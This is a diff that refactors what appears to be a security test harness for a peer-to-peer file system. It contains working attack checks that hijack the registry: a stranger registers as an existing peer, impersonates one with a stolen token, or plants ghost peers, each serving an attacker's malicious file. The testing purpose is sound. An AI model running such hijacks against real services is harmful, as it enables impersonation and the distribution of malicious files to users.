@@ -266,15 +266,20 @@ def dummy_upload(net: Net) -> Outcome:
     return Outcome("dummy-upload", "use a peer's DummyUpload", answer["code"] == "OK", f"DummyUpload: {answer['code']}")
 
 
-def maestro_hijack(net: Net) -> Outcome:
+def _register_as(net: Net, name: str, file: str, headers: dict | None = None) -> dict:
+    """POST /register at the Maestro from the stranger: name holds file, served by the attacker."""
     payload = {
-        "name": "peer2",
+        "name": name,
         "rest_url": net.rogue_url,
         "grpc_address": net.attacker_grpc,
         "heartbeat_interval": 3600,
-        "files": [{"name": "archivo2.txt", "size": len(EVIL), "mtime": 1, "sha256": EVIL_SHA}],
+        "files": [{"name": file, "size": len(EVIL), "mtime": 1, "sha256": EVIL_SHA}],
     }
-    answer = net.stranger.http("POST", net.maestro + "/register", json=payload)
+    return net.stranger.http("POST", net.maestro + "/register", json=payload, headers=headers or {})
+
+
+def maestro_hijack(net: Net) -> Outcome:
+    answer = _register_as(net, "peer2", "archivo2.txt")
     hijacked = [p["grpc_address"] for p in net.locate("archivo2.txt")] == [net.attacker_grpc]
     return Outcome(
         "maestro-register-as-peer2",
@@ -287,17 +292,8 @@ def maestro_hijack(net: Net) -> Outcome:
 
 def maestro_impersonation(net: Net) -> Outcome:
     """peer3's own credential (a member, or one who stole it) used to register as peer2."""
-    payload = {
-        "name": "peer2",
-        "rest_url": net.rogue_url,
-        "grpc_address": net.attacker_grpc,
-        "heartbeat_interval": 3600,
-        "files": [{"name": "archivo2.txt", "size": len(EVIL), "mtime": 1, "sha256": EVIL_SHA}],
-    }
     token = peer_token(net.secret_file, "peer3")
-    answer = net.stranger.http(
-        "POST", net.maestro + "/register", json=payload, headers={"Authorization": f"Bearer {token}"} if token else {}
-    )
+    answer = _register_as(net, "peer2", "archivo2.txt", {"Authorization": f"Bearer {token}"} if token else {})
     hijacked = [p["grpc_address"] for p in net.locate("archivo2.txt")] == [net.attacker_grpc]
     return Outcome(
         "register-as-peer2-with-peer3-token",
@@ -308,14 +304,7 @@ def maestro_impersonation(net: Net) -> Outcome:
 
 
 def maestro_ghosts(net: Net) -> Outcome:
-    payload = {
-        "name": "ghost-1",
-        "rest_url": net.rogue_url,
-        "grpc_address": net.attacker_grpc,
-        "heartbeat_interval": 3600,
-        "files": [{"name": "archivo3.txt", "size": len(EVIL), "mtime": 1, "sha256": EVIL_SHA}],
-    }
-    answer = net.stranger.http("POST", net.maestro + "/register", json=payload)
+    answer = _register_as(net, "ghost-1", "archivo3.txt")
     listed = any(p["name"] == "ghost-1" for p in net.locate("archivo3.txt"))
     return Outcome(
         "maestro-register-ghost",
